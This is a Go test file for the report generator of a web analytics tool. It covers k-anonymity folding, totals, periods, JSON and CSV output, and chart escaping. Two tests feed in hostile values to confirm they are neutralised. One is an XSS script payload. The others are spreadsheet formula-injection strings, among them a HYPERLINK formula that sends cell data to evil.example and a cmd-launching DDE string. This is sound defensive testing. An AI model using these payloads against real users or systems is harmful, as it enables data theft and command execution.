package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"folio/analytics/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// golden compares got with testdata/golden/name byte for byte, or rewrites
// the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./analytics/report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; run with -update if the change is meant:\n%s", name, firstDiff(got, want))
	}
}

func firstDiff(got, want []byte) string {
	g, w := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
	for i := 0; i < len(g) || i < len(w); i++ {
		var a, b string
		if i < len(g) {
			a = g[i]
		}
		if i < len(w) {
			b = w[i]
		}
		if a != b {
			return fmt.Sprintf("line %d:\n got: %s\nwant: %s", i+1, a, b)
		}
	}
	return "(same lines, different bytes)"
}

func fixtureReport(t testing.TB) *Report {
	t.Helper()
	r, err := Generate(context.Background(), sqliteStore(t, fixtureBatch()), fixtureOptions())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// charts joins every chart of a report, as the page shows them.
func charts(r *Report) []byte {
	var b strings.Builder
	b.WriteString(string(r.ViewsChart()) + "\n" + string(r.VisitorsChart()) + "\n")
	for _, t := range r.Tables() {
		b.WriteString(string(t.Chart()) + "\n")
	}
	return []byte(b.String())
}

func TestGolden(t *testing.T) {
	r := fixtureReport(t)
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		golden(t, f.Name, f.Data)
	}
	golden(t, "charts.svg.html", charts(r))
}

func TestDeterministic(t *testing.T) {
	// Two stores filled from maps (whose order Go randomises), read twice.
	a, b := fixtureReport(t), fixtureReport(t)
	fa, err := a.Files()
	if err != nil {
		t.Fatal(err)
	}
	fb, err := b.Files()
	if err != nil {
		t.Fatal(err)
	}
	for i := range fa {
		if !bytes.Equal(fa[i].Data, fb[i].Data) {
			t.Errorf("%s differs between two runs on the same data", fa[i].Name)
		}
	}
	if !bytes.Equal(charts(a), charts(b)) {
		t.Error("charts differ between two runs on the same data")
	}
}

func rowCount(tb *Table, value string) (Count, bool) {
	for _, r := range tb.Rows {
		if r.Value == value {
			return r.Count, true
		}
	}
	return 0, false
}

func TestFixtureFolding(t *testing.T) {
	r := fixtureReport(t)
	tests := []struct {
		table *Table
		value string
		want  Count // 0: not published at all
	}{
		// W10 9 (k-1) folded, W11 10 (k) kept, W13 25 kept.
		{r.Pages, "/privacy/", 35},
		// W10 at k is kept.
		{r.Pages, "/docs/config/", 55},
		{r.Pages, "/docs/rare/", 0},
		{r.Pages, "/docs/faq/", 0},
		// 12 in W13 only, where the cells under k come to 3+5 = 8: it
		// tops Other up to k and keeps 10.
		{r.Pages, "/docs/small/", 10},
		// 9+3+5+4 in W10, 3+5+4 in W11 and W12, 3+5+2 in W13.
		{r.Pages, "(other)", 21 + 12 + 12 + 10},
		// Edge is under k in W10 and W12; in W11 and W13 only Opera is
		// under k, and Edge, the smallest cell over it, cannot top Other
		// up to k and keep k itself, so it joins Other whole.
		{r.Browsers, "Edge", 0},
		{r.Browsers, "Safari", 30 + 31 + 29 + 35},
		{r.Referrers, "news.ycombinator.com", 60},
		{r.Referrers, "(private)", 0},
		{r.Languages, "ja", 0},
		{r.Countries, "IS", 0},
		// In W12 bad-request (5) is under k and takes rate-limited (12)
		// whole; in the other weeks unknown-page tops Other up to k.
		{r.Filtered, "rate-limited", 0},
		{r.Filtered, "unknown-page", (30 - 4) + (28 - 6) + 33 + (31 - 5)},
		{r.Filtered, "(other)", 10 + 10 + 17 + 10},
		{r.Filtered, "origin", 0},
	}
	for _, tt := range tests {
		got, ok := rowCount(tt.table, tt.value)
		if tt.want == 0 && ok {
			t.Errorf("%s: %s published with %d, want it folded", tt.table.Name, tt.value, got)
		}
		if tt.want != 0 && got != tt.want {
			t.Errorf("%s: %s = %d, want %d", tt.table.Name, tt.value, got, tt.want)
		}
	}
	// The collector's own "(other)" language bucket goes into Other even
	// though it is over k.
	if got, _ := rowCount(r.Languages, "(other)"); got < 11+12+10+13 {
		t.Errorf("languages: Other = %d, want at least the collector's (other) cells, %d", got, 11+12+10+13)
	}
	if title := r.Pages.Rows[0].Label; title != "Folio" {
		t.Errorf("top page label = %q, want the site's title %q", title, "Folio")
	}
	if got, _ := rowCount(r.Pages, "/old-page/"); got != 80 {
		t.Errorf("/old-page/ = %d, want 80", got)
	}
	for _, row := range r.Pages.Rows {
		if row.Value == "/old-page/" && row.Label != "/old-page/" {
			t.Errorf("label of a page the site does not know = %q, want its path", row.Label)
		}
	}
}

func TestTotals(t *testing.T) {
	r := fixtureReport(t)
	var views, prevViews int64
	for path, c := range fixturePages {
		_ = path
		for w := range 4 {
			views += c[w]
			prevViews += 4 * (c[0] * 8 / 10)
		}
	}
	prevViews /= 4
	if r.Totals.Views.Value != Count(views) || r.Totals.Views.Previous != Count(prevViews) {
		t.Errorf("views = %d, previous %d; want %d, previous %d", r.Totals.Views.Value, r.Totals.Views.Previous, views, prevViews)
	}
	if r.Totals.Views.ChangePercent == nil {
		t.Fatal("views change is null, want a number")
	}
	// Every week of every page table holds at least k, so nothing is left
	// out and the pages add up to all views.
	if r.Pages.Total != r.Totals.Views.Value {
		t.Errorf("pages total = %d, want all views %d", r.Pages.Total, r.Totals.Views.Value)
	}
	for _, tb := range r.Tables() {
		var sum Count
		for _, row := range tb.Rows {
			sum += row.Count
			if row.Count < fixtureK {
				t.Errorf("%s: %s = %d, under k", tb.Name, row.Value, row.Count)
			}
		}
		if sum != tb.Total {
			t.Errorf("%s: total %d, rows add up to %d", tb.Name, tb.Total, sum)
		}
	}
	if r.ReferrerGroups.Total != r.Referrers.Total {
		t.Errorf("referrer groups total %d, referrers total %d; want the same", r.ReferrerGroups.Total, r.Referrers.Total)
	}
	if r.Totals.Filtered.Value != r.Filtered.Total {
		t.Errorf("filtered total %d, table total %d", r.Totals.Filtered.Value, r.Filtered.Total)
	}
	var weekSum, monthSum, daySum Count
	for _, w := range r.Weekly {
		weekSum += w.Views
	}
	for _, m := range r.Monthly {
		monthSum += m.Views
	}
	for _, d := range r.Daily {
		daySum += d.Views
	}
	if weekSum != r.Totals.Views.Value || monthSum != weekSum || daySum != weekSum {
		t.Errorf("views by day %d, week %d, month %d; want all %d", daySum, weekSum, monthSum, r.Totals.Views.Value)
	}
	if got := len(r.Daily); got != 28 {
		t.Errorf("%d days, want 28", got)
	}
	if r.Partial {
		t.Error("a period that ended before now is partial")
	}
}

func TestFold(t *testing.T) {
	const k = 10
	tests := []struct {
		name  string
		cells map[string]int64 // one week
		rows  map[string]int64
		other int64
	}{
		{"k-1 folded, k kept", map[string]int64{"a": 9, "b": 10, "c": 50, "d": 1}, map[string]int64{"b": 10, "c": 50}, 10},
		{"nothing under k", map[string]int64{"a": 10, "b": 11}, map[string]int64{"a": 10, "b": 11}, 0},
		{"small Other takes a cell that would fall under k", map[string]int64{"a": 50, "b": 12, "c": 3}, map[string]int64{"a": 50}, 15},
		{"small Other topped up from the smallest cell", map[string]int64{"a": 50, "b": 30, "c": 3}, map[string]int64{"a": 50, "b": 23}, 10},
		{"top-up leaves exactly k", map[string]int64{"a": 50, "b": 17, "c": 3}, map[string]int64{"a": 50, "b": 10}, 10},
		{"ties fold in value order", map[string]int64{"a": 50, "b": 12, "c": 12, "d": 3}, map[string]int64{"a": 50, "c": 12}, 15},
		{"one whole cell brings Other to k", map[string]int64{"a": 40, "b": 12, "c": 11, "d": 3}, map[string]int64{"a": 40, "b": 12}, 14},
		{"whole table goes to Other", map[string]int64{"a": 12, "b": 3}, map[string]int64{}, 15},
		{"whole week under k", map[string]int64{"a": 4, "b": 5}, map[string]int64{}, 0},
		{"collector's (other) always folded", map[string]int64{"a": 20, otherValue: 30}, map[string]int64{"a": 20}, 30},
		{"empty", map[string]int64{}, map[string]int64{}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ty := newTally(1)
			for v, n := range tt.cells {
				ty.add(v, 0, n)
			}
			rows, other := ty.fold(k)
			if !maps.Equal(rows, tt.rows) || other != tt.other {
				t.Errorf("fold() = %v, other %d; want %v, other %d", rows, other, tt.rows, tt.other)
			}
		})
	}
}

func TestK1PublishesEverything(t *testing.T) {
	opts := fixtureOptions()
	opts.K = 1
	r, err := Generate(context.Background(), sqliteStore(t, fixtureBatch()), opts)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := rowCount(r.Pages, "/docs/rare/"); got != 12 {
		t.Errorf("k=1: /docs/rare/ = %d, want 12", got)
	}
	if _, err := Generate(context.Background(), nil, Options{K: 0}); err == nil {
		t.Error("Generate with k=0 succeeded, want an error")
	}
}

func TestEmpty(t *testing.T) {
	for name, st := range map[string]store.Store{"nil": nil, "empty SQLite": sqliteStore(t, nil)} {
		t.Run(name, func(t *testing.T) {
			r, err := Generate(context.Background(), st, fixtureOptions())
			if err != nil {
				t.Fatal(err)
			}
			if r.HasData {
				t.Error("HasData = true for an empty store")
			}
			for _, tb := range r.Tables() {
				if len(tb.Rows) != 0 || tb.Total != 0 {
					t.Errorf("%s has rows in an empty store", tb.Name)
				}
			}
			js, err := r.JSON()
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(js, []byte("null,")) && !bytes.Contains(js, []byte(`"change_percent": null`)) {
				t.Errorf("report.json of an empty store has a null list:\n%s", js)
			}
			_ = r.ViewsChart() // must not divide by zero
			for _, tb := range r.Tables() {
				_ = tb.Chart()
			}
		})
	}
}

func TestPartial(t *testing.T) {
	opts := fixtureOptions()
	opts.From = fixtureNow
	opts.To = fixtureNow
	r, err := Generate(context.Background(), sqliteStore(t, fixtureBatch()), opts)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Partial || r.Period.From != "2025-03-31" || r.Period.To != "2025-04-06" {
		t.Errorf("period %+v partial %v, want 2025-03-31..2025-04-06, partial", r.Period, r.Partial)
	}
	if r.HasData {
		t.Error("HasData = true for a week without counts")
	}
	if r.Totals.Views.Previous == 0 {
		t.Error("previous week's views are 0, want W13's")
	}
}

func TestPeriodFor(t *testing.T) {
	day := func(s string) time.Time {
		t.Helper()
		d, err := time.Parse(dayLayout, s)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	now := time.Date(2025, 4, 2, 23, 59, 0, 0, time.UTC) // a Wednesday
	tests := []struct {
		from, to         string
		wantFrom, wantTo string
		weeks            int
	}{
		{"", "", "2025-03-03", "2025-03-30", 4},
		{"2025-03-05", "2025-03-12", "2025-03-03", "2025-03-16", 2},
		{"2025-03-03", "2025-03-09", "2025-03-03", "2025-03-09", 1},
		{"2025-03-09", "", "2025-03-03", "2025-03-30", 4},
		{"", "2025-01-01", "2024-12-09", "2025-01-05", 4},
		{"2025-04-02", "", "2025-03-31", "2025-04-06", 1},
		{"2024-12-30", "2025-12-28", "2024-12-30", "2025-12-28", 52},
	}
	for _, tt := range tests {
		var from, to time.Time
		if tt.from != "" {
			from = day(tt.from)
		}
		if tt.to != "" {
			to = day(tt.to)
		}
		p, err := PeriodFor(from, to, now)
		if err != nil {
			t.Errorf("PeriodFor(%q, %q): %v", tt.from, tt.to, err)
			continue
		}
		if p.From != tt.wantFrom || p.To != tt.wantTo || p.Weeks != tt.weeks || p.Days != 7*tt.weeks {
			t.Errorf("PeriodFor(%q, %q) = %s..%s (%d weeks), want %s..%s (%d)", tt.from, tt.to, p.From, p.To, p.Weeks, tt.wantFrom, tt.wantTo, tt.weeks)
		}
	}
	if _, err := PeriodFor(day("2025-03-20"), day("2025-03-01"), now); err == nil {
		t.Error("PeriodFor with from after to succeeded")
	}
	if _, err := PeriodFor(day("1900-01-01"), day("2025-03-01"), now); err == nil {
		t.Error("PeriodFor over a century succeeded")
	}
	// A time late on Sunday in another zone is Monday in UTC.
	east := time.FixedZone("UTC+10", 10*3600)
	p, err := PeriodFor(time.Date(2025, 3, 3, 5, 0, 0, 0, east), time.Date(2025, 3, 3, 5, 0, 0, 0, east), now)
	if err != nil || p.From != "2025-02-24" {
		t.Errorf("PeriodFor in UTC+10 = %s, %v; want the UTC week of 2025-02-24", p.From, err)
	}
}

func TestJSONShape(t *testing.T) {
	js, err := fixtureReport(t).JSON()
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(js, &doc); err != nil {
		t.Fatal(err)
	}
	keys := func(v any) []string {
		m, ok := v.(map[string]any)
		if !ok {
			t.Fatalf("%v is not an object", v)
		}
		var ks []string
		for k := range m {
			ks = append(ks, k)
		}
		slices.Sort(ks)
		return ks
	}
	check := func(what string, v any, want ...string) {
		t.Helper()
		slices.Sort(want)
		if got := keys(v); !slices.Equal(got, want) {
			t.Errorf("%s has fields %v, want %v", what, got, want)
		}
	}
	tables := []string{"pages", "referrer_groups", "referrers", "browsers", "os", "devices", "languages", "countries", "filtered"}
	check("report.json", doc, append([]string{"format", "period", "previous_period", "k", "has_data", "partial", "totals", "daily", "weekly", "monthly"}, tables...)...)
	check("period", doc["period"], "from", "to", "weeks", "days")
	check("previous_period", doc["previous_period"], "from", "to", "weeks", "days")
	check("totals", doc["totals"], "views", "visitors", "filtered")
	check("totals.views", doc["totals"].(map[string]any)["views"], "value", "previous", "change_percent")
	check("daily[0]", doc["daily"].([]any)[0], "date", "views", "visitors")
	check("weekly[0]", doc["weekly"].([]any)[0], "week", "from", "to", "views", "visitors")
	check("monthly[0]", doc["monthly"].([]any)[0], "month", "from", "to", "days", "views", "visitors")
	for _, name := range tables {
		check(name, doc[name], "unit", "total", "rows")
		rows := doc[name].(map[string]any)["rows"].([]any)
		if len(rows) == 0 {
			t.Errorf("%s has no rows in the fixture", name)
			continue
		}
		want := []string{"value", "label", "count", "other"}
		if name == "referrers" {
			want = append(want, "group")
		}
		check(name+".rows[0]", rows[0], want...)
	}
	if doc["k"] != float64(fixtureK) || doc["format"] != float64(Format) {
		t.Errorf("k = %v, format = %v; want %d, %d", doc["k"], doc["format"], fixtureK, Format)
	}
}

func TestCSVShape(t *testing.T) {
	r := fixtureReport(t)
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	headers := map[string]string{
		"totals.csv":          "metric,value,previous,change_percent",
		"daily.csv":           "date,views,visitors",
		"weekly.csv":          "week,from,to,views,visitors",
		"monthly.csv":         "month,from,to,days,views,visitors",
		"pages.csv":           "path,label,views,other",
		"referrer-groups.csv": "group,label,views,other",
		"referrers.csv":       "host,label,group,views,other",
		"browsers.csv":        "browser,label,views,other",
		"os.csv":              "os,label,views,other",
		"devices.csv":         "device,label,views,other",
		"languages.csv":       "language,label,views,other",
		"countries.csv":       "country,label,views,other",
		"filtered.csv":        "reason,label,events,other",
	}
	rowsWant := map[string]int{"totals.csv": 3, "daily.csv": 28, "weekly.csv": 4, "monthly.csv": 1}
	for _, tb := range r.Tables() {
		rowsWant[tb.CSV()] = len(tb.Rows)
	}
	seen := map[string]bool{}
	for _, f := range files {
		if f.Name == "report.json" {
			continue
		}
		seen[f.Name] = true
		recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", f.Name, err)
			continue
		}
		if got := strings.Join(recs[0], ","); got != headers[f.Name] {
			t.Errorf("%s header = %q, want %q", f.Name, got, headers[f.Name])
		}
		if got := len(recs) - 1; got != rowsWant[f.Name] {
			t.Errorf("%s has %d rows, want %d", f.Name, got, rowsWant[f.Name])
		}
	}
	for name := range headers {
		if !seen[name] {
			t.Errorf("no %s", name)
		}
	}
}

func TestReferrerGroup(t *testing.T) {
	tests := map[string]string{
		"(direct)": GroupDirect, "(internal)": GroupInternal, "(private)": GroupPrivate,
		"google.com": GroupSearch, "google.co.uk": GroupSearch, "duckduckgo.com": GroupSearch, "search.brave.com": GroupSearch,
		"news.ycombinator.com": GroupSocial, "m.facebook.com": GroupSocial, "t.co": GroupSocial,
		"example.org": GroupWebsites, "notgoogle.com": GroupWebsites, "brave.com": GroupWebsites,
	}
	for host, want := range tests {
		if got := referrerGroup(host); got != want {
			t.Errorf("referrerGroup(%q) = %q, want %q", host, got, want)
		}
	}
}

func TestChartsEscape(t *testing.T) {
	b := newBatch()
	evil := `/"><script>alert(1)</script>`
	host := `x"><svg onload=alert(1)>.example`
	spread(fixtureStart, 70, func(day string, n int64) {
		b.Views[store.ViewKey{Day: day, Path: evil}] += n
		b.Dims[store.DimKey{Day: day, Dim: "referrer", Value: host}] += n
	})
	st := &memStore{}
	if err := st.Add(context.Background(), b); err != nil {
		t.Fatal(err)
	}
	r, err := Generate(context.Background(), st, fixtureOptions())
	if err != nil {
		t.Fatal(err)
	}
	out := string(charts(r))
	for _, bad := range []string{"<script", "<svg onload", evil, host} {
		if strings.Contains(out, bad) {
			t.Errorf("charts contain %q unescaped", bad)
		}
	}
	if strings.Contains(out, "style=") {
		t.Error("charts use a style attribute, which a strict CSP blocks")
	}
	if !strings.Contains(out, "&lt;script&gt;") {
		t.Error("the escaped path is missing from the pages chart")
	}
}

func TestWriteFiles(t *testing.T) {
	r := fixtureReport(t)
	parent := t.TempDir()
	dir := filepath.Join(parent, "stats")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "stale.csv"), []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFiles(dir, r, []byte("<!doctype html>")); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"index.html", "report.json", "pages.csv", "daily.csv"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("after WriteFiles: %v", err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "stale.csv")); err == nil {
		t.Error("a file of the previous report is still there")
	}
	entries, err := os.ReadDir(parent)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 {
		t.Errorf("parent folder holds %d entries, want only stats/ (no temporary folders left)", len(entries))
	}
	fi, err := os.Stat(dir)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o755 {
		t.Errorf("report folder mode %v, want 0755", fi.Mode().Perm())
	}

	// A report that cannot be written leaves the previous one alone.
	blocked := filepath.Join(parent, "file")
	if err := os.WriteFile(blocked, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFiles(filepath.Join(blocked, "stats"), r, nil); err == nil {
		t.Error("WriteFiles under a file succeeded")
	}
}

func TestCountString(t *testing.T) {
	for n, want := range map[Count]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567", -12345: "-12,345"} {
		if got := n.String(); got != want {
			t.Errorf("Count(%d).String() = %q, want %q", int64(n), got, want)
		}
	}
}

func TestNiceMax(t *testing.T) {
	tests := []struct{ peak, top, step int64 }{
		{0, 4, 1}, {3, 4, 1}, {7, 8, 2}, {60, 60, 20}, {61, 80, 20}, {98, 100, 25}, {1234, 1500, 500},
	}
	for _, tt := range tests {
		top, step := niceMax(tt.peak)
		if top != tt.top || step != tt.step {
			t.Errorf("niceMax(%d) = %d, %d; want %d, %d", tt.peak, top, step, tt.top, tt.step)
		}
		if top < tt.peak || top/step > 5 {
			t.Errorf("niceMax(%d) = %d, %d: below the peak or more than five steps", tt.peak, top, step)
		}
	}
}

// TestCSVNeutralisesFormulas: a spreadsheet runs a cell that starts with
// =, +, -, @, a tab or a carriage return as a formula. Page titles, paths
// and referrer hosts come from outside, so every such text cell of every
// CSV file is prefixed with a single quote (OWASP's advice); numbers,
// negative ones too, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1)`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
		"\t=1+1", "\r=1+1",
	}
	titles := map[string]string{}
	b := newBatch()
	for i, e := range evil {
		path := fmt.Sprintf("/evil-%d/", i)
		titles[path] = e
		spread(fixtureStart, 70, func(day string, n int64) {
			b.Views[store.ViewKey{Day: day, Path: path}] += n
			b.Dims[store.DimKey{Day: day, Dim: "referrer", Value: e}] += n
			b.Dims[store.DimKey{Day: day, Dim: "language", Value: e}] += n
		})
	}
	// Fewer views than the period before: a negative change, a number.
	for w := -4; w < 0; w++ {
		spread(fixtureStart.AddDate(0, 0, 7*w), 1000, func(day string, n int64) {
			b.Views[store.ViewKey{Day: day, Path: "/"}] += n
		})
	}
	st := &memStore{}
	if err := st.Add(context.Background(), b); err != nil {
		t.Fatal(err)
	}
	opts := fixtureOptions()
	opts.Title = func(path string) (string, bool) { t, ok := titles[path]; return t, ok }
	r, err := Generate(context.Background(), st, opts)
	if err != nil {
		t.Fatal(err)
	}
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	negative := false
	for _, f := range files {
		if !strings.HasSuffix(f.Name, ".csv") {
			continue
		}
		recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell == "" {
					continue
				}
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					negative = negative || cell[0] == '-'
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", f.Name, cell)
				}
				if e, ok := strings.CutPrefix(cell, "'"); ok && slices.Contains(evil, e) {
					found[f.Name] = true
				}
			}
		}
	}
	for _, name := range []string{"pages.csv", "referrers.csv", "languages.csv"} {
		if !found[name] {
			t.Errorf("%s holds none of the hostile values, quoted: the test proves nothing there", name)
		}
	}
	if !negative {
		t.Error("no negative number in any CSV file: the test does not show that numbers stay numbers")
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "/docs/": "/docs/", "Install Folio": "Install Folio", "12": "12", "-12.5": "-12.5", "0.0": "0.0",
		"-": "'-", "-.5": "'-.5", "-1.": "'-1.", "-1-1": "'-1-1", "+1": "'+1", "=1": "'=1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "'=1": "'=1", " =1": " =1",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}
